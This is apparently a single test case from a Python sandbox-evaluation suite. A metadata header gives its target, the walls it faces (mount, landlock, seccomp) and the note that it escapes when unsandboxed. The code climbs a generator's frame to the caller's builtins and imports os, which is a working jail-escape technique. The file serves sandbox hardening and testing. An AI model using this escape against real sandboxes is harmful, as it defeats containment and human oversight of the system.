# id: lang_generator
# class: language
# goal: A generator's frame, climbed from the inside.
# targets: host-data
# walls: mount, landlock, seccomp
# danger: none
# runs: 1
# unsandboxed: escapes
def climb():
    yield generator.gi_frame.f_back.f_builtins
generator = climb()
power(next(generator)["__import__"]("os"))
